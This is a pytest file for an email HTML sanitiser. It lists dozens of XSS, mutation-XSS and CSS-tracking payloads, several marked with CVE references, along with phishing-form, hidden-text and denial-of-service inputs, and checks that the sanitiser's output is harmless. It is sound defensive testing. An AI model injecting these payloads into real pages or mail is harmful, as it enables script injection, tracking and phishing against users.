"""What is shown of a mail's HTML: attacks by name and source, what stays, and what holds for any HTML."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from selectolax.lexbor import LexborHTMLParser

from cpu_time import cpu_s
from ticketmail.adapters.mime.html import read
from ticketmail.adapters.mime.html.safe import TAGS
from ticketmail.testing.strategies import html_bodies

PNG = "data:image/png;base64,iVBORw0KGgo="

#: Source -> HTML that must come out without anything active or remote.
ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script in svg": "<svg><script>alert(1)</script></svg>",
    "handler": '<img src=x onerror="alert(1)">',
    "handler without quotes": "<b onmouseover=alert(1)>a</b>",
    "body onload": "<body onload=alert(1)>a",
    "javascript link": '<a href="javascript:alert(1)">a</a>',
    "javascript with blanks": '<a href=" java\tscript\n:alert(1)">a</a>',
    "javascript with entities": '<a href="&#106;avascript&colon;alert(1)">a</a>',
    "javascript with zero width": '<a href="java\u200bscript:alert(1)">a</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">a</a>',
    "data link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
    "file link (CVE-2026-22200 kin)": '<a href="file:///etc/passwd">a</a><img src="php://filter/resource=a">',
    "data svg image": '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    "remote image": '<img src="https://tracker.example/a.gif">',
    "remote image without scheme": '<img src="//tracker.example/a.gif">',
    "srcset": f'<img srcset="https://tracker.example/a.gif 2x" src="{PNG}">',
    "background attribute": '<table background="https://tracker.example/a.gif"><tr><td>a</td></tr></table>',
    "css url": '<p style="background:url(https://tracker.example/a)">a</p>',
    "css url with escapes (CVE-2026-48846 kin)": '<p style="background:u\\72l(https://tracker.example/a)">a</p>',
    "css var (CVE-2026-35544 kin)": '<p style="--a:url(https://tracker.example/a);background:var(--a)">a</p>',
    "css image-set": "<p style=\"background-image:image-set('https://tracker.example/a' 1x)\">a</p>",
    "css import": "<style>@import url(https://tracker.example/a.css)</style>a",
    "css expression": '<p style="width:expression(alert(1))">a</p>',
    "css behaviour": '<p style="behavior:url(#default#time2)">a</p>',
    "overlay": '<div style="position:fixed;top:0;left:0;width:100%;height:100%">a</div>',
    "negative margin": '<div style="margin-top:-500px">a</div>',
    "link element": '<link rel=stylesheet href="https://tracker.example/a.css">',
    "prefetch": '<link rel=dns-prefetch href="//tracker.example">',
    "meta refresh": '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/"><a href="a">a</a>',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example/a.swf"></object>',
    "embed": '<embed src="https://evil.example/a.swf">',
    "form": '<form action="https://evil.example"><input name=password type=password><button>Log in</button></form>',
    "svg animate (CVE-2024-37383)": '<svg><animate attributeName="href" values="javascript:alert(1)"/><a id=x>a</a></svg>',
    "svg use": '<svg><use href="https://evil.example/a.svg#b"/></svg>',
    "svg style": "<svg><style>*{background:url(https://tracker.example/a)}</style></svg>",
    "math (mutation)": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "noscript mutation (CVE-2020-6802)": '<noscript><style></noscript><img src=x onerror=alert(1)>',
    "title mutation": '<svg></p><title><a id="</title><img src=x onerror=alert(1)>">',
    "form mutation": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "comment mutation (CVE-2021-23980)": '<math></p><style><!--</style><img src/onerror=alert(1)>--></style></math>',
    "template": "<template><img src=x onerror=alert(1)></template>",
    "textarea": '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "select": "<select><template><style><!--</style><img src=x onerror=alert(1)>--></select>",
    "xmp": "<xmp><img src=x onerror=alert(1)></xmp>",
    "plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "processing instruction": '<?xml version="1.0"?><?php alert(1) ?>',
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "attribute without end": '<a href="https://example.org/" title="<script>alert(1)</script>',
    "null bytes": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "dom clobbering": '<a id=document name=cookie>a</a><form id=body><input name=innerHTML>',
    "cid of another mail": '<img src="cid:somebody@elsewhere">',
    "cid with a path": '<img src="cid:../../etc/passwd">',
    "video": '<video poster="https://tracker.example/a.jpg"><source src="https://tracker.example/a.mp4"></video>',
    "audio autoplay": '<audio src="https://tracker.example/a.mp3" autoplay></audio>',
    "font face": "<style>@font-face{font-family:a;src:url(https://tracker.example/a.woff)}</style>",
    "list image": "<ul style=\"list-style:url('https://tracker.example/a')\"><li>a</ul>",
    "custom element": '<x-evil onclick=alert(1) href="javascript:alert(1)">a</x-evil>',
    "ping": '<a href="https://example.org" ping="https://tracker.example">a</a>',
    "target": '<a href="https://example.org" target=_top onclick=alert(1)>a</a>',
}  # fmt: skip

ATTRIBUTES = frozenset(
    [
        *(
            "align",
            "alt",
            "bgcolor",
            "border",
            "cellpadding",
            "cellspacing",
            "color",
            "colspan",
            "data-remote-src",
            "dir",
            "face",
        ),
        *("height", "href", "lang", "rel", "rowspan", "size", "src", "start", "style", "title", "valign", "width"),
    ]
)


def assert_harmless(html: str) -> None:
    """Parsed again, it has nothing but allowed elements and attributes, and fetches nothing."""
    for node in LexborHTMLParser(html).css("*"):
        assert node.tag in TAGS | {"html", "head", "body"}
        for name, value in node.attributes.items():
            assert name in ATTRIBUTES
            assert _is_harmless(name, value or ""), (name, value)


def _is_harmless(name: str, value: str) -> bool:
    if name == "href":
        return re.match(r"(?:https?://|mailto:|tel:)", value, re.IGNORECASE) is not None
    if name == "src":
        return re.match(r"(?:cid:[\w.@+$%=!~&*/-]+$|data:image/(?:png|jpe?g|gif|webp);base64,)", value, re.IGNORECASE) is not None
    if name == "style":
        return re.search(r"url|expression|var\(|\\|@|position|behavio|image-set|:\s*-\d", value) is None
    return name != "data-remote-src" or value.startswith(("http://", "https://"))


@pytest.mark.parametrize("name", ATTACKS)
def test_attacks_come_out_harmless(name):
    safe = read(ATTACKS[name], cids={"logo@example.org"}).safe
    assert_harmless(safe)
    assert "alert" not in safe or "&lt;" in safe or "<script" not in safe


def test_form_fields_go_and_their_words_stay():
    safe = read(ATTACKS["form"]).safe
    assert "input" not in safe
    assert "Log in" in safe


def test_what_people_write_with_stays():
    html = (
        '<div align="center"><h1>Title</h1><p style="color:red;margin:0 4px">One <b>two</b><br>three</p><ul><li>a</li></ul>'
        '<table border="1"><tbody><tr><td colspan="2">cell</td></tr></tbody></table></div>'
    )
    assert read(html).safe == html


def test_letters_stay_readable_where_their_background_does_not_stay():
    assert read('<p style="background:#c00;color:#fff">a</p>').safe == '<p style="color:#fff;background-color:#c00">a</p>'
    assert read('<p style="background:url(https://t.example/a);color:#fff">a</p>').safe == "<p>a</p>"
    assert read('<style>.a{background:#c00}</style><p class="a" style="color:#fff">a</p>').safe == "<p>a</p>"
    assert read('<body bgcolor="#000" text="#fff"><font color="white">a</font>').safe == (
        '<div bgcolor="#000"><font color="white">a</font></div>'
    )


def test_links_are_listed_and_lead_to_the_web_mailboxes_and_telephones():
    reading = read(
        '<a href="https://example.org/?a=1&amp;b=2">One</a> <a href="mailto:ann@example.org">Ann</a> <a href="tel:+491">T</a>'
    )
    assert [(one.target, one.text) for one in reading.links] == [
        ("https://example.org/?a=1&b=2", "One"),
        ("mailto:ann@example.org", "Ann"),
        ("tel:+491", "T"),
    ]
    assert 'rel="noopener noreferrer nofollow"' in reading.safe


@pytest.mark.parametrize(
    ("text", "target", "deceptive"),
    [
        ("https://bank.example/login", "https://evil.example/bank.example", True),
        ("www.bank.example", "https://evil.example", True),
        ("bank.example", "https://login.bank.example/a", False),
        ("click here", "https://evil.example", False),
        ("https://bank.example", "https://bank.example/a", False),
        ("ann@bank.example", "https://evil.example", True),
    ],
)
def test_links_that_say_another_host_than_they_go_to(text, target, deceptive):
    (link,) = read(f'<a href="{target}">{text}</a>').links
    assert link.is_deceptive is deceptive


def test_remote_images_are_listed_and_kept_as_an_address_that_fetches_nothing():
    reading = read('<img src="https://tracker.example/a.gif" alt="Logo" width="10">')
    assert [(one.what, one.value) for one in reading.blocked] == [("remote-image", "https://tracker.example/a.gif")]
    assert reading.safe == '<img data-remote-src="https://tracker.example/a.gif" alt="Logo" width="10">'


def test_images_of_the_mail_are_shown_and_listed():
    reading = read('<img src="cid:logo@example.org"><img src="cid:other@example.org">', cids={"logo@example.org"})
    assert reading.images == ("logo@example.org",)
    assert reading.safe == '<img src="cid:logo@example.org"><img>'
    assert [one.what for one in reading.blocked] == ["cid"]


def test_embedded_pixels_stay():
    assert read(f'<img src="{PNG}">').safe == f'<img src="{PNG}">'


HIDDEN = {
    "display": '<span style="display:none">secret</span>',
    "display important": '<span style="display: none !important">secret</span>',
    "visibility": '<span style="visibility:hidden">secret</span>',
    "opacity": '<span style="opacity:0">secret</span>',
    "font size": '<span style="font-size:0px">secret</span>',
    "one pixel": '<span style="font-size:1px">secret</span>',
    "white on white": '<span style="color:#ffffff">secret</span>',
    "nearly white": '<font color="#fefefe">secret</font>',
    "black on black": '<div style="background:#000"><span style="color:black">secret</span></div>',
    "bgcolor": '<table bgcolor="#123456"><tr><td><font color="#123456">secret</font></td></tr></table>',
    "no height": '<div style="max-height:0;overflow:hidden">secret</div>',
    "off screen": '<div style="position:absolute;left:-9999px">secret</div>',
    "indent": '<div style="text-indent:-9999px">secret</div>',
    "attribute": "<div hidden>secret</div>",
    "outlook": '<div style="mso-hide:all;font-size:0">secret</div>',
    "sheet": "<style>.preheader{display:none!important}</style><div class=preheader>secret</div>",
    "sheet of the page": '<style>body{background:#fff}</style><p style="color:white">secret</p>',
    "sheet by id": "<style>div#a , .b {display:none}</style><div id=a>secret</div>",
    "nested": '<div style="display:none"><div><p>secret</p></div></div>',
}


@pytest.mark.parametrize("name", HIDDEN)
def test_what_people_do_not_see_is_told_apart(name):
    reading = read(f"<p>Hello</p>{HIDDEN[name]}<p>Ann</p>")
    assert "secret" not in reading.safe
    assert [line.text for line in reading.lines if line.mark == "hidden"] == ["secret"]
    assert "secret" not in " ".join(line.text for line in reading.lines if line.mark != "hidden")


@pytest.mark.parametrize(
    "html",
    [
        '<table bgcolor="navy"><tr><td><font color="white">seen</font></td></tr></table>',
        '<div style="background:url(https://example.org/a)"><span style="color:white">seen</span></div>',
        '<style>.button{background:#00f}</style><a class="button" style="color:#fff">seen</a>',
        '<body bgcolor="#000000">seen',
        '<body bgcolor="black" text="white">seen',
        '<style>td{background:#00f}</style><table><tr><td style="color:#fff">seen</td></tr></table>',
        '<style>.a{color:#000}</style><div style="background:#000;color:#fff"><p class=a style="background:#fff">seen</p></div>',
        '<style>@media (max-width:600px){.wide{display:none}}</style><p class="wide">seen</p>',
        '<style>.a{display:none} .a{display:block}</style><p class="a">seen</p>',
        '<style>.menu .open{display:none}</style><p class="open">seen</p>',
        '<p style="font-size:1em">seen</p>',
        '<p style="opacity:0.9">seen</p>',
        '<p style="overflow:hidden;height:20px">seen</p>',
    ],
)
def test_what_people_see_is_not_hidden(html):
    assert "seen" in read(html).safe


@given(html_bodies())
def test_any_html_comes_out_harmless_and_cleaning_it_again_changes_nothing(html):
    safe = read(html, cids={"logo@example.org"}).safe
    assert_harmless(safe)
    assert read(safe, cids={"logo@example.org"}).safe == safe


MIB = 1024 * 1024
HOSTILE = {
    "divs": "<div>" * (MIB // 5),
    "bold": "<b>" * (MIB // 3),
    "different bold": "".join(f"<b id={at}>" for at in range(60_000)),
    "fonts and paragraphs": "".join(f"<font color={at}>" for at in range(2_000)) + "<p>x" * 200_000,
    "tables": "<table>" * (MIB // 7),
    "cells": "<table><tr><td>" * (MIB // 15),
    "attributes": "<a " + " ".join(f"a{at}=1" for at in range(120_000)) + ">",
    "quoted attributes": "<a " + " ".join(f'a{at}="<"' for at in range(90_000)) + ">",
    "many attributes": ("<p " + " ".join(f"a{at}=1" for at in range(1_000)) + ">") * 100,
    "small attributes": "<a " + " ".join(f"a{at}" for at in range(5_000)) + ">",
    "open tags": "<a " * (MIB // 3),
    "open quotes": '<a "' * (MIB // 4),
    "open values": '<a b="' * (MIB // 6),
    "less than": "<" * MIB,
    "ampersands": "&" * MIB,
    "comments": "<!--" * (MIB // 4),
    "scripts": "<script>" * (MIB // 8),
    "styles": "<style>a{b:c}" * (MIB // 13),
    "style sheet": "<style>" + "a{" * (MIB // 2),
    "style comments": "<style>" + "/*" * (MIB // 2),
    "open comments": "<style>" + "/* " * (MIB // 3),
    "many selectors": "<style>" + "a," * (MIB // 2),
    "at rules": "<style>" + "@media{" * (MIB // 7),
    "inline style": '<p style="' + "a:b;" * (MIB // 4) + '">',
    "lists": "<ul><li>" * (MIB // 8),
    "selects": "<select><option>" * (MIB // 16),
    "svg": "<svg><p>" * (MIB // 8),
    "links with tables": "<a><table>" * (MIB // 10),
    "forms": "<form><p></form>" * (MIB // 16),
    "misnested": "<b><i><p></b></i>" * (MIB // 17),
    "blockquotes": "<blockquote>" * (MIB // 12),
    "line breaks": "<br>" * (MIB // 4),
    "preformatted": "<pre>" + "\n" * MIB,
    "classes": '<p class="' + "gmail_quote " * (MIB // 12) + '">',
    "hidden": '<p style="display:none">a</p>' * (MIB // 29),
    "images": '<img src="https://example.org/a">' * (MIB // 33),
    "entities": "&nbsp;" * (MIB // 6),
    "unclosed paragraphs": "<p>x" * (MIB // 4),
    "spans": "<span>x</span>" * (MIB // 14),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_html_is_read_within_a_second(name):
    assert cpu_s(lambda: read(HOSTILE[name])) < 1.0
